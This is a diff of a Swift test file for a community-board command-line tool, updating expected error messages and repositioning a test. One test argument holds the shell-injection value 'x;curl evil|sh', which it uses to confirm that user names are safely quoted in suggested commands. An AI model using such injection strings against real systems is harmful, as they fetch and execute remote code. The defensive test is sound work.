@@ -3,6 +3,7 @@ import CommunityDomain
 import Foundation
 import TerminalKit
 import Testing
+import TextCore
 
 @testable import CommunityCLI
 
@@ -23,7 +24,7 @@ import Testing
 
         let list = await app.run("drafts", "list")
         #expect(list.out == "No drafts.\n")
-        #expect(list.error == "1 waits for http://board.test: \(line) drafts list\n", "\(list.error)")
+        #expect(list.error == "1 text waits for http://board.test: \(line) drafts list\n", "\(list.error)")
         for word in ["send", "show", "edit", "delete"] {
             let run = await app.run("drafts", word, "1")
             #expect(run.code == .failure)
@@ -58,7 +59,6 @@ import Testing
         #expect(await app.run("drafts", "show", "1").out == "Lost?\n")
     }
 
-    @Test func `A draft of an older version is only used where that is meant`() async throws {
     @Test(arguments: [
         ("민수", "signin 민수"), ("Kim Minsu", "signin 'Kim Minsu'"),
         ("x;curl evil|sh", "signin 'x;curl evil|sh'"),
@@ -73,6 +73,7 @@ import Testing
         #expect(context.commandLine("outbox list", at: place) == "community-cli \(command)")
     }
 
+    @Test func `A draft of an older version is only used where that is meant`() async throws {
         let app = try await TestApp.signedUp()
         try app.write("Old", to: ".local/share/trellis/community/drafts/default/3.post.md")
         for folder in ["", "/default"] {
@@ -99,13 +100,13 @@ import Testing
         let list = await app.run("outbox", "list")
         #expect(list.out == "The outbox is empty.\n")
         #expect(
-            list.error == "1 waits for meng at the board of this device: community-cli signin meng\n",
+            list.error == "1 text waits for meng at the board of this device: community-cli signin meng\n",
             "\(list.error)")
         let elsewhere = await app.run(["outbox", "list"] + Self.board, transport: Unreachable())
         #expect(elsewhere.code == .signInNeeded)
         #expect(
             elsewhere.error.contains(
-                "1 waits for meng at the board of this device: community-cli outbox list"))
+                "1 text waits for meng at the board of this device: community-cli outbox list"))
         _ = await app.run("config", "set", "server", "http://board.test")
         let set = await app.run("outbox", "list", transport: Unreachable())
         #expect(set.error.contains("community-cli --server none outbox list"), "\(set.error)")
